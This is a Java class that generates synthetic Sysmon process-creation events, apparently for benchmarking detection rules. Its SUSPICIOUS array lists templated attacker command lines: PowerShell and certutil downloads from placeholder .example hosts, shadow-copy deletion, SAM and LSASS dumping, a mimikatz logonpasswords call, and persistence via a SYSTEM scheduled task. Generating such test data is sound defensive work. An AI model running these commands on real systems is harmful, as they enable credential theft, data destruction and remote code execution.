package io.tripline.bench.compare;

/** Structured process creation as Sysmon names its fields, without a channel: which log it is has to be said. */
final class ProcessStarts implements Maker {

    /** A program, and its arguments; {w} is a word, {n} a number, {h} hexadecimal digits. */
    private record Start(String image, String arguments) {}

    private static final Start[] ORDINARY = {
        new Start("C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s {w}"),
        new Start("C:\\Windows\\System32\\RuntimeBroker.exe", "-Embedding"),
        new Start("C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1"),
        new Start("C:\\Windows\\System32\\taskhostw.exe", "{w}"),
        new Start(
                "C:\\Windows\\System32\\SearchProtocolHost.exe",
                "Global\\UsGthrFltPipe{n} Global\\UsGthrCtrlFltPipe{n} 1"),
        new Start(
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "--type=renderer --lang=en-US --num={n} --{w}={n}"),
        new Start(
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "/n \"C:\\Users\\{w}\\Documents\\{w} {w}.docx\""),
        new Start("C:\\Program Files\\Git\\cmd\\git.exe", "fetch origin {w}/{w}"),
        new Start("C:\\Program Files\\Java\\bin\\java.exe", "-Xmx{n}m -jar C:\\app\\{w}\\{w}.jar --port {n}"),
        new Start("C:\\Program Files\\{w}\\{w}.exe", "--config \"C:\\ProgramData\\{w}\\{w}.json\" --worker {n}"),
        new Start("C:\\Program Files (x86)\\{w} {w}\\{w}update.exe", "/svc /{w}"),
        new Start("C:\\Windows\\explorer.exe", "/factory,{{w}-{h}} -Embedding")
    };

    /** What a test of defences runs in a day. */
    private static final Start[] SUSPICIOUS = {
        new Start(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -ep bypass -enc {h}"),
        new Start(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "IEX (New-Object Net.WebClient).DownloadString('http://{w}.example/{w}.ps1')"),
        new Start(
                "C:\\Windows\\System32\\certutil.exe",
                "-urlcache -split -f http://{w}.example/{w}.exe C:\\Users\\Public\\{w}.exe"),
        new Start("C:\\Windows\\System32\\vssadmin.exe", "delete shadows /all /quiet"),
        new Start("C:\\Windows\\System32\\wbem\\WMIC.exe", "process call create \"cmd.exe /c {w}.bat\""),
        new Start(
                "C:\\Windows\\System32\\rundll32.exe",
                "C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Temp\\{w}.dmp full"),
        new Start("C:\\Windows\\System32\\mshta.exe", "http://{w}.example/{w}.hta"),
        new Start(
                "C:\\Windows\\System32\\bitsadmin.exe",
                "/transfer {w} /download http://{w}.example/{w}.exe C:\\Temp\\{w}.exe"),
        new Start(
                "C:\\Windows\\System32\\schtasks.exe",
                "/create /sc minute /mo 5 /tn {w} /tr C:\\Users\\Public\\{w}.exe /ru SYSTEM"),
        new Start("C:\\Windows\\System32\\reg.exe", "save HKLM\\SAM C:\\Temp\\{w}.hiv"),
        new Start("C:\\Windows\\System32\\net.exe", "localgroup administrators {w} /add"),
        new Start("C:\\Windows\\System32\\whoami.exe", "/priv /all"),
        new Start("C:\\Windows\\System32\\regsvr32.exe", "/s /u /i:http://{w}.example/{w}.sct scrobj.dll"),
        new Start("C:\\Windows\\System32\\bcdedit.exe", "/set {default} recoveryenabled no"),
        new Start("C:\\Windows\\System32\\nltest.exe", "/domain_trusts /all_trusts"),
        new Start("C:\\Users\\Public\\{w}.exe", "privilege::debug sekurlsa::logonpasswords exit")
    };

    private static final String[] PARENTS = {
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    };

    private final Words words;
    private final double suspicious;
    private final Log fields;
    private long time = Words.START;

    /**
     * @param suspicious share of command lines that rules look for, 0 to 1
     * @param fields said in each event
     */
    ProcessStarts(long seed, double suspicious, Log fields) {
        words = new Words(seed);
        this.suspicious = suspicious;
        this.fields = fields;
    }

    @Override
    public void next(StringBuilder out) {
        Start start = words.of(words.chance(suspicious) ? SUSPICIOUS : ORDINARY);
        String image = fill(start.image());
        write(out, image, "\"" + image + "\" " + fill(start.arguments()));
    }

    /** A start like all others, with this command line. */
    void next(StringBuilder out, String commandLine) {
        write(out, fill(words.of(ORDINARY).image()), commandLine);
    }

    private void write(StringBuilder out, String image, String commandLine) {
        time += 10;
        String parent = words.of(PARENTS);
        String name = image.substring(image.lastIndexOf('\\') + 1);
        fields.writeTo(new Json(out)
                        .text("@timestamp", Words.time(time))
                        .text("UtcTime", Words.time(time).replace('T', ' ').replace("Z", "")))
                .text("Computer", "ws" + words.below(500) + ".corp.example")
                .text("User", "CORP\\" + Words.word(words.below(2_000)))
                .text("LogonId", "0x" + words.hex(5))
                .text("IntegrityLevel", words.of("Medium", "High", "System"))
                .text("ProcessGuid", "{" + words.uuid() + "}")
                .number("ProcessId", words.below(60_000))
                .text("Image", image)
                .text("OriginalFileName", name)
                .text("FileVersion", "10.0.19041." + words.below(4_000))
                .text("Description", "Program " + name)
                .text("Product", "Some product")
                .text("Company", "Some company")
                .text("CommandLine", commandLine)
                .text("CurrentDirectory", "C:\\Windows\\system32\\")
                .text("Hashes", "MD5=" + words.hex(32) + ",SHA256=" + words.hex(64) + ",IMPHASH=" + words.hex(32))
                .text("ParentProcessGuid", "{" + words.uuid() + "}")
                .number("ParentProcessId", words.below(60_000))
                .text("ParentImage", parent)
                .text("ParentCommandLine", parent + " -" + words.word())
                .endLine();
    }

    private String fill(String pattern) {
        StringBuilder filled = new StringBuilder(pattern.length() + 32);
        for (int i = 0; i < pattern.length(); i++) {
            if (i + 2 < pattern.length() && pattern.charAt(i) == '{' && pattern.charAt(i + 2) == '}') {
                switch (pattern.charAt(i + 1)) {
                    case 'w' -> filled.append(words.word());
                    case 'n' -> filled.append(words.below(65_536));
                    case 'h' -> filled.append(words.hex(48));
                    default -> throw new IllegalArgumentException(pattern);
                }
                i += 2;
            } else {
                filled.append(pattern.charAt(i));
            }
        }
        return filled.toString();
    }
}
